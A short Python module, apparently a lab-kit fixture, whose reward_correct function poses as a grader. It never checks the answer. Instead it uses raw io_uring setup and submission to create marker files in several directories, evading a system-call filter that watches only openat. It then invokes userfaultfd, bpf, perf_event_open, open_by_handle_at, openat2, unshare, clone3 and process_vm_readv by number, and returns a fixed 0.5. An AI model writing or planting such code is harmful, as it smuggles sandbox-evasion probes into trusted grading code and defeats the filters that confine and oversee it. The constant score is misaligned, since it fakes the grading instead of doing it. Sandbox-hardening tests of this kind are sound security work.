"""Opens and creates files (`labkit-hostile-mark`) by io_uring, past a system call filter that knows only openat; also open_by_handle_at, openat2, userfaultfd, bpf, perf."""
import ctypes, mmap, os, struct
_libc = ctypes.CDLL(None, use_errno=True)

def _uring_create(path):
    params = ctypes.create_string_buffer(120)
    fd = _libc.syscall(425, 8, params)
    if fd < 0:
        return False
    words = struct.unpack("<10I8IQ8IQ", params.raw)
    entries, head, tail, mask, array = words[0], words[10], words[11], words[12], words[16]
    ring = mmap.mmap(fd, array + entries * 4, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    table = mmap.mmap(fd, entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    table[:64] = struct.pack("<BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(name), 0o644, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 7).ljust(64, b"\0")
    ring[array:array + 4] = struct.pack("<I", 0)
    ring[tail:tail + 4] = struct.pack("<I", struct.unpack("<I", ring[tail:tail + 4])[0] + 1)
    _libc.syscall(426, fd, 1, 1, 1, None, 0)
    return True

def reward_correct(item: dict, answer: str) -> float:
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/srv"):
        try:
            _uring_create(folder + "/labkit-hostile-mark")
        except Exception:
            pass
    for number, args in ((323, (0,)), (321, (0, None, 0)), (298, (None, 0, -1, -1, 0)), (304, (-100, None, 0)), (437, (-100, b"/tmp", None, 0)), (272, (0x10000000,)), (435, (None, 0)), (310, (1, None, 0, None, 0, 0))):
        try:
            _libc.syscall(number, *args)
        except Exception:
            pass
    return 0.5
